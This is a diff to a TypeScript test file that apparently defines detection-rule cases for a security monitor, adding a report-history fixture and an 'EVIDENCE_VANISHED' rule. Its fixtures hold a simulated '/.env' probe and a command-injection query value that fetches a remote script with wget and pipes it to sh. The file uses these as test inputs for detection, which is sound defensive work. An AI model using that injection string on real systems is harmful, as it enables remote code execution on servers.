@@ -1,4 +1,4 @@
-import { appLog, at } from '../../moments/bundle-builder.js';
+import { appLog, at, type Piece } from '../../moments/bundle-builder.js';
 import { access, layer, monitorLine, noHistory, nutsFrom, start } from '../../moments/pieces.js';
 import { caseAt, patchedAt, quietLog, type RuleCase } from '../rule-case.js';
 
@@ -7,7 +7,22 @@ const probe = (status: number, path = '/.env') =>
   access([`104.23.1.2 - - [20/Nov/2026:11:20:05 +0000] "GET ${path} HTTP/1.1" ${status} 162 "-" "curl/8"`]);
 const echo = '/search?q=$(wget%20http://198.18.1.1/x.sh%20-O-|sh)';
 
-/** Rules 44 to 48: reading. */
+/** A report of Candor's own with one open finding. */
+const own = (check: string): Piece => ({
+  id: 'case.reports',
+  file: 'candor.d/reports/0001.json',
+  text: JSON.stringify({
+    format: 'candor-report/1',
+    id: '2026-11-19T1200Z-web-2',
+    capturedAt: '2026-11-19T12:00:00Z',
+    verdict: { status: 'COMPROMISED' },
+    incidents: [],
+    questions: [],
+    results: [{ check, subject: 'host', state: 'fail', severity: 'critical', title: 't', fingerprint: 'aa' }],
+  }),
+});
+
+/** Rules 44 to 49: reading. */
 export const readingCases: readonly RuleCase[] = [
   {
     rule: 'FILTERED_VIEW',
@@ -25,9 +40,7 @@ export const readingCases: readonly RuleCase[] = [
         moment: patchedAt(
           now,
           probe(400, echo),
-          appLog([
-            `${at('2026-11-20T11:20:05Z')} ValidationError: The following field is invalid: q value "$(wget http://198.18.1.1/x.sh -O-|sh)"`,
-          ]),
+          appLog([`${at('2026-11-20T11:20:05Z')} invalid query: $(wget http://198.18.1.1/x.sh -O-|sh)`]),
         ),
       },
     ],
@@ -105,6 +118,20 @@ export const readingCases: readonly RuleCase[] = [
           noHistory,
         ),
       },
+    ],
+  },
+  {
+    rule: 'EVIDENCE_VANISHED',
+    fires: [
+      {
+        title: 'a finding that nobody looked for again',
+        effect: /COMPROMISED|bad/,
+        moment: patchedAt(now, quietLog, own('RTC-02')),
+      },
+    ],
+    silent: [
+      { title: 'a finding that is answered now', moment: patchedAt(now, quietLog, own('NXT-02')) },
+      { title: 'no earlier report', moment: patchedAt(now, quietLog, noHistory) },
     ],
   },
 ];
